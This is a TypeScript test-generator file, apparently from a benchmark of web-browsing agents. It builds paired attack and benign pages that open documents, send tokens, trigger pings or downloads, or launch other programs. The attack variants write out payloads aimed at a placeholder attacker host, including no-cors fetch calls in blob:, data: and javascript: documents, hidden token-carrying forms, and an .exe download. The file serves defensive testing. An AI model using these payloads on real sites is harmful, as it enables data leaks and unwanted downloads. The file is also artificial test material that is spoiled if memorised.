/** Family 7: every way to create a document, receive a file or start another program. */
import { effectOf, escapeHtml, order, page, readOf } from '../markup.ts';
import type { Mix } from '../mix.ts';
import type { SitePages, Trial } from '../trial.ts';
import type { Scenario } from './pair.ts';

type Scene = {
  readonly body: string;
  readonly script?: string;
  readonly head?: string;
  readonly orders?: readonly string[];
  readonly more?: SitePages;
  readonly due?: number;
  readonly isAsked?: boolean;
  readonly isKnowable?: boolean;
};

/** `to`: source of the new document: another site's effect, or a read of this one. */
const birth = (
  name: string,
  scene: (to: string, mix: Mix, isAttack: boolean) => Scene,
): Scenario => ({
  name,
  build: (mix) => {
    const side = (isAttack: boolean): Trial => {
      const to = isAttack ? `{{attacker}}${effectOf(mix)}` : `{{victim}}${readOf(mix)}`;
      const { more, due = 0, isAsked, isKnowable = true, ...parts } = scene(to, mix, isAttack);
      const orders = parts.orders ?? [order('click', mix.harmless)];
      return {
        pages: { victim: { '/': page(mix, { shape: 'plain', ...parts, orders }), ...more } },
        person: isAttack ? 'skips' : 'approves',
        due: isAttack ? 0 : due,
        isKnowable,
        ...(isAttack && isAsked && { oracles: [{ kind: 'asked' as const }] }),
        ...(!isAttack && { wanted: { [readOf(mix)]: 1 } }),
      };
    };
    return { attack: side(true), twin: side(false) };
  },
});

const link = (mix: Mix, href: string, rest = ''): string =>
  `<a href="${escapeHtml(href)}"${rest}>${escapeHtml(mix.harmless)}</a>`;
const button = (mix: Mix, code: string): string =>
  `<button type="button" onclick="${escapeHtml(code)}">${escapeHtml(mix.harmless)}</button>`;
const byButton = (name: string, code: (to: string) => string, isKnowable = true): Scenario =>
  birth(name, (to, mix) => ({ body: button(mix, code(to)), isKnowable }));

/** Returns a document that requests the address as soon as it loads. */
const asks = (to: string): string => `<script>fetch('${to}',{mode:'no-cors'})<\\/script>`;

/** Links that start something other than a page; the benign control is a link to a read. */
const started = (name: string, href: (mix: Mix) => string, rest = ''): Scenario =>
  birth(name, (to, mix, isAttack) => ({
    body: isAttack ? link(mix, href(mix), rest) : link(mix, to),
    isAsked: isAttack,
  }));

export const births: readonly Scenario[] = [
  birth('link to another site', (to, mix) => ({ body: link(mix, to) })),
  birth('link in a new tab', (to, mix) => ({ body: link(mix, to, ' target="_blank"') })),
  birth('link in a new tab without an opener', (to, mix) => ({
    body: link(mix, to, ' target="_blank" rel="noopener noreferrer"'),
  })),
  birth('link in a named tab', (to, mix) => ({ body: link(mix, to, ' target="other"') })),
  birth('link into a frame', (to, mix) => ({
    body: `${link(mix, to, ' target="box"')}<iframe name="box" title="Box"></iframe>`,
  })),
  birth('GET form into a frame', (to, mix) => ({
    body: `<form method="get" action="${to}" target="box"><input type="hidden" name="q" value="${mix.token}"><button>${escapeHtml(mix.harmless)}</button></form><iframe name="box" title="Box"></iframe>`,
  })),
  birth('GET form in a new tab', (to, mix) => ({
    body: `<form method="get" action="${to}" target="_blank"><input type="hidden" name="q" value="${mix.token}"><button>${escapeHtml(mix.harmless)}</button></form>`,
  })),
  birth('image map', (to, mix) => ({
    body: `<img alt="map" usemap="#m" width="80" height="40" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="><map name="m"><area shape="rect" coords="0,0,80,40" href="${to}" alt="${escapeHtml(mix.harmless)}"></map>`,
  })),
  byButton('window.open', (to) => `window.open('${to}')`),
  byButton('window.open without an opener', (to) => `window.open('${to}','_blank','noopener')`),
  byButton('window.open of a window', (to) => `window.open('${to}','w','width=300,height=200')`),
  byButton('window.open later', (to) => `setTimeout(()=>window.open('${to}'),50)`),
  byButton(
    'blank window that is led on',
    (to) => `const w=window.open('about:blank');w.location='${to}'`,
  ),
  byButton(
    'blank window that is written',
    (to) =>
      `const w=window.open('');w.document.write(${JSON.stringify(asks(to)).replaceAll('<\\\\/', '<\\/')})`,
    false,
  ),
  byButton(
    'blob: window',
    (to) =>
      `window.open(URL.createObjectURL(new Blob(["<script>fetch('${to}',{mode:'no-cors'})<\\/script>"],{type:'text/html'})))`,
    false,
  ),
  byButton(
    'data: frame',
    (to) =>
      `const f=document.createElement('iframe');f.src='data:text/html,<script>fetch("${to}",{mode:"no-cors"})<\\/script>';document.body.append(f)`,
    false,
  ),
  byButton(
    'frame made by a script',
    (to) => `const f=document.createElement('iframe');f.src='${to}';document.body.append(f)`,
    false,
  ),
  byButton('location set by a script', (to) => `location.href='${to}'`),
  byButton('location set later', (to) => `setTimeout(()=>{location.href='${to}'},80)`),
  byButton(
    'meta refresh added by a script',
    (to) =>
      `const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=${to}';document.head.append(m)`,
  ),
  byButton(
    'javascript: address',
    (to) => `location.href="javascript:void fetch('${to}',{mode:'no-cors'})"`,
    false,
  ),
  birth('javascript: link', (to, mix) => ({
    body: link(mix, `javascript:void fetch('${to}',{mode:'no-cors'})`),
    isKnowable: false,
  })),
  birth('window.open in a frame', (to, mix) => ({
    body: `<iframe src="/frame" title="Box" width="400" height="200"></iframe>`,
    more: {
      '/frame': page(mix, {
        body: button(mix, `window.open('${to}')`),
        shape: 'plain',
        orders: [],
      }),
    },
  })),
  birth('top window led on by a frame', (to, mix) => ({
    body: `<iframe src="/frame" title="Box" width="400" height="200"></iframe>`,
    more: {
      '/frame': page(mix, {
        body: button(mix, `top.location='${to}'`),
        shape: 'plain',
        orders: [],
      }),
    },
  })),
  birth('ping of a link', (to, mix, isAttack) => ({
    body: isAttack ? link(mix, '#here', ` ping="${to}"`) : link(mix, to),
    isKnowable: false,
  })),
  started('mailto: link', (mix) => `mailto:robin@example.org?body=${mix.token}`),
  started('tel: link', () => 'tel:+15550100'),
  started('app link', (mix) => `web+${mix.token.slice(0, 5)}:open?x=1`),
  birth('download link', (to, mix, isAttack) => ({
    body: isAttack ? link(mix, `/do/file-${mix.path}?file=report.exe`, ' download') : link(mix, to),
  })),
  birth('file answered to a link', (to, mix, isAttack) => ({
    body: isAttack ? link(mix, `/do/file-${mix.path}?file=report.zip`) : link(mix, to),
    isKnowable: false,
  })),
  birth('file made by a script', (to, mix, isAttack) => ({
    body: isAttack
      ? button(
          mix,
          `const a=document.createElement('a');a.href='/do/file-${mix.path}?file=a.txt';a.download='a.txt';a.click()`,
        )
      : link(mix, to),
    isKnowable: true,
  })),
];
